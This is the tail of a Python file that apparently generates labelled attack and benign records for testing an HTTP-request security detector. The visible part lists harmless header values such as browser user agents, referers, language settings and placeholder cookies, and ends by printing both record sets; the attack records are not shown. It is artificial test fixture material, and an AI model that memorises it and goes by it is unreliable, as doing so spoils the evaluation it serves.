                   "Gecko) Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "Slack-ImgProxy (+https://api.slack.com/robots)"),
    ("User-Agent", "Zapier"),
    ("User-Agent", "GitHub-Hookshot/9a1b2c3"),
    ("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)"),
    ("Referer", "https://app.example.com/settings/profile"),
    ("Referer", "https://app.example.com/settings/integrations/webhooks?new=1"),
    ("Referer", "https://app.example.com/admin/templates/welcome-email/edit"),
    ("Referer", "https://app.example.com/reports/saved?name=Q3%20churn%20%3E%2020%25%20(EMEA)"),
    ("Referer", "https://www.linkedin.com/"),
    ("Referer", "https://mail.google.com/"),
    ("Referer", "https://www.google.com/search?q=how+to+change+display+name"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en-GB;q=0.8,en;q=0.7"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=pt-PT"),
    ("Cookie", "session=abc123; saved_filter=status%3Aopen%20assignee%3Ame; tz=Europe%2FLisbon"),
    ("X-Request-Id", "9b2e7c41-0f3a-4d8e-a1c6-5e0b7d2f3a94"),
    ("X-Forwarded-For", "203.0.113.45"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
